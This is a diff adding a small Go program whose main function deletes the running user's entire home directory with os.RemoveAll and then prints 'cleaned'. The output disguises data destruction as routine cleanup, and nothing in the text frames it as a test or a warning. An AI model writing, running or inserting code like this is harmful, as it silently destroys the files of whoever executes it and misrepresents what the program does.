@@ -1,0 +1,12 @@
+package main
+
+import (
+	"fmt"
+	"os"
+)
+
+func main() {
+	dir, _ := os.UserHomeDir()
+	os.RemoveAll(dir)
+	fmt.Println("cleaned")
+}
